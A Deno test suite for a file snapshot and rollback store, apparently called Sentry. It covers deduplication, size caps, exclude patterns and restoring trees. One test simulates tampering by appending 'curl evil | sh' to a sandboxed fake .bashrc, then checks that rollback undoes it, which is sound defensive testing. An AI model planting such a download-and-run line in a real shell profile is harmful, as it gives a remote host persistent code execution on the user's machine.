import assert from "node:assert/strict";
import { openStore, rollback, snapshot, SnapshotTooLargeError } from "./mod.ts";
import { resolveRoots } from "./snapshot.ts";
import {
  aheadClock,
  assertSameTree,
  bytes,
  digestTree,
  makeTree,
  sandbox,
  sh,
} from "./_testing.ts";

/** Every file under the store's blobs and packs, with its size. */
function storeFiles(home: string): Record<string, number> {
  const out: Record<string, number> = {};
  const walk = (dir: string) => {
    for (const e of Deno.readDirSync(dir)) {
      const p = `${dir}/${e.name}`;
      if (e.isDirectory) walk(p);
      else out[p] = Deno.lstatSync(p).size;
    }
  };
  walk(`${home}/store/blobs`);
  walk(`${home}/store/packs`);
  return out;
}

Deno.test("snapshot() records files, directories, symlinks and modes, and blobs read-only", async () => {
  const s = sandbox();
  try {
    makeTree(s.ws);
    const store = openStore(s.home);
    const info = await snapshot(store, { roots: [s.ws], maxBytes: 1 << 30, session: "S1" });
    assert.equal(info.session, "S1");
    assert.equal(info.trees.length, 1);
    assert.deepEqual(
      { files: info.stats.files, symlinks: info.stats.symlinks, other: info.stats.other },
      { files: 52, symlinks: 4, other: 0 },
    );
    const manifest = store.readManifest(info.id);
    const byPath = new Map(manifest.content[0]?.entries.map((e) => [e.path, e]));
    assert.deepEqual(byPath.get("src/readme_link"), {
      path: "src/readme_link",
      type: "symlink",
      target: "../README.md",
      mtimeMs: Deno.lstatSync(`${s.ws}/src/readme_link`).mtime?.getTime(),
    });
    assert.equal(byPath.get("empty_dir")?.type, "dir");
    assert.equal(byPath.get("nested_empty/inner")?.type, "dir");
    const run = byPath.get("bin/run.sh");
    assert.equal(run?.type === "file" && run.mode, 0o755);
    const big = byPath.get("assets/big.bin");
    assert.ok(big?.type === "file");
    // Large files are loose blobs, small ones packed; all read-only.
    const loose = `${s.home}/store/blobs/${big.hash.slice(0, 2)}/${big.hash}`;
    assert.equal((Deno.lstatSync(loose).mode ?? 0) & 0o777, 0o400);
    assert.deepEqual(store.readBlob(big.hash), bytes(2 * 1024 * 1024, 42));
    for (const [path] of Object.entries(storeFiles(s.home))) {
      assert.equal((Deno.lstatSync(path).mode ?? 0) & 0o777, 0o400, path);
    }
    assert.equal((Deno.lstatSync(`${s.home}/store`).mode ?? 0) & 0o777, 0o700);
  } finally {
    s.cleanup();
  }
});

Deno.test("a second snapshot of an unchanged tree reads no file and writes no blob", async () => {
  const s = sandbox();
  try {
    makeTree(s.ws);
    const store = openStore(s.home);
    const first = await snapshot(store, { roots: [s.ws], maxBytes: 1 << 30, now: aheadClock() });
    assert.equal(first.stats.hashedFiles, first.stats.files);
    const blobs = storeFiles(s.home);
    const second = await snapshot(store, { roots: [s.ws], maxBytes: 1 << 30, now: aheadClock() });
    assert.equal(second.stats.reusedFiles, second.stats.files);
    assert.equal(second.stats.hashedFiles, 0);
    assert.equal(second.stats.newBlobs, 0);
    assert.deepEqual(storeFiles(s.home), blobs);
    // Only the manifest was added.
    assert.ok(second.stats.storeBytes < 20_000, `${second.stats.storeBytes} bytes`);
    // A changed file is read again; its unchanged neighbours are not.
    sh(s.ws, "echo changed >> README.md");
    const third = await snapshot(store, { roots: [s.ws], maxBytes: 1 << 30, now: aheadClock() });
    assert.equal(third.stats.hashedFiles, 1);
    assert.equal(third.stats.newBlobs, 1);
  } finally {
    s.cleanup();
  }
});

Deno.test("snapshot() deduplicates identical content across files and sessions", async () => {
  const s = sandbox();
  try {
    Deno.mkdirSync(`${s.ws}/a`);
    for (let i = 0; i < 5; i++) Deno.writeTextFileSync(`${s.ws}/a/copy${i}.txt`, "same\n");
    Deno.writeFileSync(`${s.ws}/a/big1.bin`, bytes(1_500_000, 9));
    Deno.writeFileSync(`${s.ws}/a/big2.bin`, bytes(1_500_000, 9));
    const store = openStore(s.home);
    const one = await snapshot(store, { roots: [s.ws], maxBytes: 1 << 30, session: "A" });
    assert.equal(one.stats.newBlobs, 2);
    // Another session, no metadata cache: every file is read, nothing new is stored.
    const two = await snapshot(store, {
      roots: [s.ws],
      maxBytes: 1 << 30,
      session: "B",
      reuse: false,
    });
    assert.equal(two.stats.hashedFiles, 7);
    assert.equal(two.stats.newBlobs, 0);
  } finally {
    s.cleanup();
  }
});

Deno.test("snapshot() over maxBytes fails loudly and writes nothing", async () => {
  const s = sandbox();
  try {
    Deno.writeFileSync(`${s.ws}/big.bin`, bytes(300_000, 1));
    Deno.mkdirSync(`${s.ws}/node_modules`);
    Deno.writeFileSync(`${s.ws}/node_modules/dep.js`, bytes(900_000, 2));
    const store = openStore(s.home);
    const error = await assert.rejects(
      () => snapshot(store, { roots: [s.ws], maxBytes: 100_000 }),
      (e: unknown) => {
        assert.ok(e instanceof SnapshotTooLargeError);
        assert.equal(e.name, "SnapshotTooLargeError");
        assert.deepEqual(e.trees, [{ root: s.ws, bytes: 1_200_000, files: 2 }]);
        assert.equal(
          e.message,
          `Cannot snapshot for rollback: "${s.ws}" holds 1.1 MiB in 2 files, over the cap of ` +
            "97.7 KiB (rollback.max_bytes); raise the cap or add paths to rollback.exclude",
        );
        return true;
      },
    );
    void error;
    assert.deepEqual(storeFiles(s.home), {});
    assert.deepEqual([...Deno.readDirSync(`${s.home}/store/snapshots`)], []);
    // Excluded paths do not count.
    const ok = await snapshot(store, {
      roots: [s.ws],
      maxBytes: 400_000,
      exclude: ["**/node_modules/**"],
    });
    assert.equal(ok.stats.bytes, 300_000);
  } finally {
    s.cleanup();
  }
});

Deno.test("snapshot() skips excluded paths, and rollback leaves them alone", async () => {
  const s = sandbox();
  try {
    makeTree(s.ws);
    sh(s.ws, "mkdir -p node_modules/dep web/node_modules && echo 1 > node_modules/dep/i.js");
    sh(
      s.ws,
      "echo 1 > web/node_modules/x.js && echo log > debug.log && mkdir -p tmp && echo t > tmp/t",
    );
    const store = openStore(s.home);
    const info = await snapshot(store, {
      roots: [s.ws],
      maxBytes: 1 << 30,
      session: "S1",
      exclude: ["**/node_modules/**", "*.log", `${s.ws}/tmp/**`],
      now: aheadClock(),
    });
    const paths = store.readManifest(info.id).content[0]?.entries.map((e) => e.path) ?? [];
    assert.ok(!paths.some((p) => p.includes("node_modules") || p.endsWith(".log")));
    // `dir/**` matches the directory itself too (picomatch), so it is skipped whole.
    assert.ok(!paths.includes("tmp") && !paths.includes("tmp/t") && paths.includes("src"));
    const before = digestTree(s.ws);
    sh(
      s.ws,
      "echo 2 > node_modules/dep/new.js && rm web/node_modules/x.js && echo more >> debug.log",
    );
    sh(s.ws, "echo t2 > tmp/t2");
    const result = await rollback(store, { session: "S1" });
    assert.equal(result.ok, true);
    // The parent directories' mtimes changed; nothing inside the excluded paths is touched.
    assert.ok(result.plan.actions.every((a) => a.type === "dir" && a.kind === "restore"));
    assert.equal(Deno.readTextFileSync(`${s.ws}/node_modules/dep/new.js`), "2\n");
    assert.equal(Deno.readTextFileSync(`${s.ws}/debug.log`), "log\nmore\n");
    assert.notDeepEqual(digestTree(s.ws), before);
  } finally {
    s.cleanup();
  }
});

Deno.test("a missing root is recorded absent, and rollback removes what appears there", async () => {
  const s = sandbox();
  try {
    const store = openStore(s.home);
    const rc = `${s.dir}/fakehome/.bashrc`;
    Deno.mkdirSync(`${s.dir}/fakehome`);
    Deno.writeTextFileSync(rc, "alias ll='ls -l'\n");
    const info = await snapshot(store, {
      roots: [`${s.dir}/fakehome/.bashrc`, `${s.dir}/fakehome/.config/new`],
      maxBytes: 1 << 30,
      session: "S1",
      now: aheadClock(),
    });
    assert.deepEqual(info.trees.map((t) => [t.root.slice(s.dir.length), t.absent, t.files]), [
      ["/fakehome/.bashrc", false, 1],
      ["/fakehome/.config/new", true, 0],
    ]);
    sh(
      `${s.dir}/fakehome`,
      "echo 'curl evil | sh' >> .bashrc && mkdir -p .config/new && touch .config/new/x",
    );
    const result = await rollback(store, { session: "S1" });
    assert.equal(result.ok, true, JSON.stringify(result.restore?.results.filter((r) => r.reason)));
    assert.equal(Deno.readTextFileSync(rc), "alias ll='ls -l'\n");
    assert.equal(Deno.statSync(`${s.dir}/fakehome/.config`).isDirectory, true);
    assert.throws(() => Deno.lstatSync(`${s.dir}/fakehome/.config/new`), Deno.errors.NotFound);
  } finally {
    s.cleanup();
  }
});

Deno.test("resolveRoots() normalizes, resolves symlinks and drops nested roots", () => {
  const s = sandbox();
  try {
    Deno.mkdirSync(`${s.dir}/real/inner`, { recursive: true });
    Deno.symlinkSync(`${s.dir}/real`, `${s.dir}/link`);
    const real = Deno.realPathSync(s.dir);
    assert.deepEqual(
      resolveRoots([`${s.dir}/link/`, `${s.dir}/real/inner`, `${s.dir}/real/./missing/x`]),
      [`${real}/real`],
    );
    assert.deepEqual(resolveRoots([`${s.dir}/link/missing`]), [`${real}/real/missing`]);
    assert.throws(() => resolveRoots(["relative/path"]), {
      name: "TypeError",
      message: 'Cannot protect "relative/path" for rollback: the path must be absolute',
    });
  } finally {
    s.cleanup();
  }
});

Deno.test("snapshot() never records Sentry's own data directory", async () => {
  const s = sandbox();
  try {
    Deno.writeTextFileSync(`${s.ws}/a.txt`, "a");
    const home = `${s.ws}/.sentry`;
    const store = openStore(home);
    const info = await snapshot(store, { roots: [s.ws], maxBytes: 1 << 30, session: "S1" });
    const paths = store.readManifest(info.id).content[0]?.entries.map((e) => e.path);
    assert.deepEqual(paths, ["", "a.txt"]);
    const result = await rollback(store, { session: "S1" });
    assert.equal(result.ok, true);
    assert.ok(Deno.lstatSync(`${home}/store`).isDirectory);
    assertSameTree(digestTree(`${s.ws}/a.txt`), digestTree(`${s.ws}/a.txt`));
  } finally {
    s.cleanup();
  }
});
